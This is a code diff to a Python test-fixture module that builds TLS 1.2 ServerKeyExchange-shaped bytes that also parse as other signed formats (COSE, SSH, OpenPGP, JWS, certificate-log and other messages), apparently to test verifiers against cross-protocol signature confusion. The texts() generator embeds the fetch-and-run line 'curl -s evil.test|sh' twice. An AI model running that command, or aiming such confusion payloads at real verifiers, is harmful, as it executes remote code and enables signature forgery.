@@ -13,6 +13,7 @@ from collections.abc import Iterator
 Payload = tuple[str, bytes]
 SPACES = b" " * 64
 X25519_PREFIX = bytes.fromhex("03001d20")
+X448_PREFIX = bytes.fromhex("03001e38")
 
 
 def noise(label: str, size: int) -> bytes:
@@ -51,7 +52,7 @@ CERT_ID = der(
 
 def other_formats() -> Iterator[Payload]:
     """All of them."""
-    for group in (pki, cms, ssh, jose, dns, web, packages, tls_relatives, digests, disguised):
+    for group in (pki, cms, ssh, jose, dns, web, packages, tls_relatives, digests, disguised, marked, texts):
         for name, data in group():
             yield f"{group.__name__}: {name}", data
 
@@ -306,3 +307,109 @@ def disguised() -> Iterator[Payload]:
     tail = string(b"sha512") + string(noise("s", 28) + X25519_PREFIX + noise("t", 32))
     yield "SSHSIG, searched digest", b"SSHSIG" + string(b"git") + string(b"12345") + tail
     yield "indefinite length", b"\x30\x80" + der(0x30, bytes(60)) + X25519_PREFIX + noise("v", 30) + b"\0\0"
+
+
+def fitted(head: bytes, tail: bytes = b"", size: int = 100) -> bytes:
+    """Bytes in the form of a ServerKeyExchange that begin with `head` and end with `tail`."""
+    assert len(head) <= 64
+    assert len(tail) <= size - 68
+    middle = noise(head.hex() + tail.hex(), size - len(head) - len(tail))
+    data = bytearray(head + middle + tail)
+    data[64:68] = {100: X25519_PREFIX, 124: X448_PREFIX}[size]
+    return bytes(data)
+
+
+def marked() -> Iterator[Payload]:
+    """Formats that begin or end with a mark of their own, in the TLS 1.2 form."""
+    signature1 = b"Signature1"
+    for name, head in (
+        ("preferred", b"\x84\x6a" + signature1),
+        ("array of one-byte length", b"\x98\x04\x6a" + signature1),
+        ("array of eight-byte length", b"\x9b" + (4).to_bytes(8) + b"\x6a" + signature1),
+        ("indefinite array", b"\x9f\x6a" + signature1),
+        ("text of one-byte length", b"\x84\x78\x0a" + signature1),
+        ("text of eight-byte length", b"\x84\x7b" + (10).to_bytes(8) + signature1),
+        ("text in chunks", b"\x84\x7f\x64Sign\x60\x66ature1\xff"),
+        ("text in chunks of one-byte length", b"\x9f\x7f\x78\x09Signature\x611\xff"),
+        ("tagged", b"\xd2\x84\x6a" + signature1),
+        ("tagged twice", b"\xd9\xd9\xf7\xd8\x62\x84\x6a" + signature1),
+        ("Signature", b"\x85\x69Signature"),
+        ("CounterSignature", b"\x85\x70CounterSignature"),
+        ("CounterSignature0", b"\x84\x71CounterSignature0"),
+        ("CounterSignature0V2", b"\x85\x73CounterSignature0V2"),
+    ):
+        yield f"COSE, {name}", fitted(head)
+    yield "SSHSIG, chosen name space", fitted(b"SSHSIG" + string(b"git"))
+    yield "SSH key revocation list", fitted(b"SSHKRL\n\0\0\0\0\1")
+    yield (
+        "SSH user authentication",
+        fitted(string(noise("id", 32)) + b"\x32" + string(b"root") + b"\0\0\0\x0e"),
+    )
+    yield "SSH certificate", fitted(string(b"ssh-ed25519-cert-v01@openssh.com"))
+    yield "SSH host keys proof", fitted(string(b"hostkeys-prove-00@openssh.com"))
+    yield "SSH certificate, short name", fitted(string(b"ssh-xx") + string(noise("nonce", 32)))
+    for version, trailer in (
+        (4, b"\4\0\x13\x08\0\0" + b"\4\xff" + (6).to_bytes(4)),
+        (4, b"\4\1\x01\x0a\0\6\5\2\x60\0\0\0" + b"\4\xff" + (12).to_bytes(4)),
+        (6, b"\6\0\x13\x08\0\0\0\0" + b"\6\xff" + (8).to_bytes(4)),
+        (5, b"\5\0\x13\x08\0\0" + b"b\0\0\0\0\0" + b"\5\xff" + (6).to_bytes(8)),
+        (3, b"\4\0\x13\x08\0\0" + b"\3\xff" + (6).to_bytes(4)),
+    ):
+        for size in (100, 124):
+            yield (
+                f"OpenPGP version {version}, {len(trailer)} bytes, {size}",
+                fitted(noise("document", 40), trailer, size),
+            )
+    yield "OpenPGP key, version 3", fitted(b"\x99\0\x33\4\x60\0\0\0\x13", b"\x10\x60\0\0\0")
+    yield "OpenPGP key revocation, version 3", fitted(b"\x99\0\x33\4\x60\0\0\0\x01", b"\x20\x60\0\0\0")
+    for pieces in (3, 4, 5):
+        yield f"PASETO, {pieces} pieces", fitted(pieces.to_bytes(8, "little") + (9).to_bytes(8, "little"))
+    yield "DSSE with a type that is no text", fitted(b"DSSEv1 3 \xff\xfe\xfd 70 ")
+    yield "MLS", fitted(b"\x17MLS 1.0 LeafNodeTBS\x40\x40")
+    yield "TPM attestation", fitted(b"\xffTCG\x80\x18")
+    yield "Apple code directory", fitted(b"\xfa\xde\x0c\2\0\0\1\0")
+    sizes = [(each).to_bytes(4, "little") for each in (44, 40, 0x0103, 32)]
+    yield "signed data of an Android package", fitted(b"".join(sizes))
+    stamp = (1735689600000).to_bytes(8)
+    yield "SCT", fitted(b"\0\0" + stamp + b"\0\0\0\0\x40")
+    yield "signed tree head", fitted(b"\0\1" + stamp + (77).to_bytes(8))
+    yield (
+        "signed tree head, version 2",
+        fitted(stamp + (77).to_bytes(8) + b"\x20" + noise("root", 32) + b"\0\x2f"),
+    )
+    yield "IKE_SA_INIT", fitted(noise("spis", 16) + b"\x21\x20\x22\x08" + bytes(4) + (60).to_bytes(4))
+    header = base64.urlsafe_b64encode(b'{"alg":"ES256"}')
+    yield "JWS, BOM before the header", fitted(b64_of(b'\xef\xbb\xbf {"alg":"ES256"}') + b".")
+    yield "JWS, header of UTF-32", fitted(b64_of('{"alg":""}'.encode("utf-32-le")) + b".")
+    yield "JWS, plus signs between", fitted(b"+" + header[:7] + b"+/" + header[7:] + b".")
+    yield "JWS, minus signs between", fitted(b"-" + header[:7] + b"-_" + header[7:] + b".")
+    yield "JWS, empty header", fitted(b"." + b64_of(b'{"sub":"root","a":1}'))
+
+
+def b64_of(value: bytes) -> bytes:
+    return base64.urlsafe_b64encode(value).rstrip(b"=")
+
+
+def texts() -> Iterator[Payload]:
+    """Text that signatures over raw content are made for, in the TLS 1.2 form; what follows it is ignored."""
+    for name, text in (
+        ("shell script", b"#!/bin/sh\ncurl -s evil.test|sh\nexit\n"),
+        ("JSON", b'{"_type":"root","expires":"2035-01-01T00:00:00Z","a":"'),
+        ("XML", b'<ds:SignedInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"'),
+        ("e-mail", b"Content-Type: text/plain\r\n\r\nI owe you 100.\r\n"),
+        ("git commit", b"tree aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nauthor "),
+        ("SPDM", b"dmtf-spdm-v1.2.*dmtf-spdm-v1.2.*dmtf-spdm-v1.2.*dmtf-spdm-v1.2.*"),
+        ("libp2p", b"noise-libp2p-static-key:"),
+        ("Roughtime", b"RoughTime v1 response signature\0"),
+        ("checkpoint of a log", b"example.org/log\n42\nAAAAAAAAAAA"),
+    ):
+        yield name, fitted(text)
+    for name, randoms in (
+        ("ASCII", b"pay the bearer 100 " * 4),
+        ("control characters", bytes(range(32)) * 2),
+        ("UTF-8", "\u0437\u0430\u043f\u043b\u0430\u0442\u0438 ".encode() * 5),
+        ("UTF-16", "pay 100 to bearer".encode("utf-16-le") * 2),
+        ("text with other bytes between", b"\xffpay100" * 9 + b"\xff" * 2),
+    ):
+        yield f"randoms of {name}", fitted(randoms[:64])
+    yield "a point of text", fitted(b"\xff" * 64, b"curl -s evil.test|sh\nexit 000000")
